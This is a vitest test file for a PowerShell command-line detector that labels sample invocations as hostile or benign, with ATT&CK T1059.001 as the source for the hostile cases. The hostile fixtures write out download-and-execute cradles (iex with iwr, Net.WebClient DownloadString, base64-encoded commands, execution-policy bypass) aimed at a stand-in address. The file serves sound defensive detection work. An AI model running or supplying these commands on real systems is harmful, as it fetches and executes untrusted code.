import { expect, test } from "vitest";
import { encodeScript } from "../../../src/attack/programs/powershell/script.ts";
import { POWERSHELL_MODEL } from "../../../src/attack/programs/powershell.ts";
import { describeReader } from "./labelled.ts";

const FETCHED = "fetches a script from the address http://198.51.100.7/a and runs it";
const FILE = "runs a script from where every user can write";
const CALLED = "runs a file from where every user can write";

// Hostile: from facts of ATT&CK T1059.001 and recordings in samples/. Benign: Windows' own lines and
// those of automation, from recordings in samples/.
describeReader(POWERSHELL_MODEL, {
  hostile: [
    ["powershell iex(iwr http://198.51.100.7/a)", FETCHED],
    [
      "powershell -nop -w hidden /c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\"",
      FETCHED,
    ],
    ["powershell \u2013Com (irm http://198.51.100.7/a) | iex", FETCHED],
    ["powershell -c $a = iwr http://198.51.100.7/a -useb; Invoke-Expression $A", FETCHED],
    [`powershell -e ${encodeScript("iwr http://198.51.100.7/a | iex")}`, FETCHED],
    [`powershell -NonI -WIN 1 -eNc ${encodeScript("iex(iwr http://198.51.100.7/a)")}`, FETCHED],
    [
      "powershell -c (New-Object Net.WebClient).DownloadFile('http://198.51.100.7/a','a.exe');start a.exe",
      "fetches a file from the address http://198.51.100.7/a and starts a program",
    ],
    [
      "powershell -c IEX ([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String('SQBFAFgA')))",
      "runs what is encoded in it",
    ],
    ["powershell -ep bypass -f C:\\Users\\u\\a.ps1 -x", FILE],
    [
      '"powershell.exe" -w Hidden -ep Bypass -file "C:\\Users\\u\\AppData\\Local\\Temp\\a b.ps1"',
      FILE,
    ],
    ["powershell -exec bypass & 'C:\\ProgramData\\a.ps1'", CALLED],
    ["powershell C:\\Windows\\Temp\\a.exe", CALLED],
    ["powershell -c Start-Process C:\\Users\\Public\\a.exe", CALLED],
  ],
  benign: [
    "powershell.exe",
    "powershell -?",
    'powershell.exe -File "C:\\Program Files\\Contoso\\a.ps1" C:\\Users\\Public\\b.ps1',
    "powershell.exe -File C:\\Users\\Public\\a.txt",
    "powershell -ExecutionPolicy Bypass -File \\\\files\\netlogon\\logon.ps1",
    "powershell.exe -ExecutionPolicy Restricted -Command Write-Host 'Final result: 1';",
    "powershell.exe -noexit -c \"write-host 'iex(iwr http://198.51.100.7/a)'\"",
    "powershell -c iwr http://198.51.100.7/a -OutFile a.msi",
    "powershell -c Get-Service #;iex(iwr http://198.51.100.7/a)",
    "powershell -c Get-Service <# ;iex(iwr http://198.51.100.7/a) #>",
    "powershell -c iex ((New-Object Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
    "powershell -c iex $x; iwr http://198.51.100.7/a",
    "powershell -EncodedCommand x!",
    `powershell -EncodedCommand ${encodeScript("Get-Service")}`,
    "powershell -c Get-Content C:\\Users\\u\\a.ps1",
    "powershell.exe -ExecutionPolicy AllSigned -Command \"& {& 'C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\DataCollection\\a.ps1'}\"",
  ],
});

test("what begins with no option is a script's file in PowerShell 7", () => {
  const read = POWERSHELL_MODEL.readLine("pwsh C:\\Users\\u\\a.ps1 x");
  expect(read("C:\\Program Files\\PowerShell\\7\\pwsh.exe")?.words).toBe(FILE);
  const script = POWERSHELL_MODEL.readLine("pwsh iex(iwr http://198.51.100.7/a)");
  expect(script("C:\\Program Files\\PowerShell\\7\\pwsh.exe")).toBeUndefined();
});
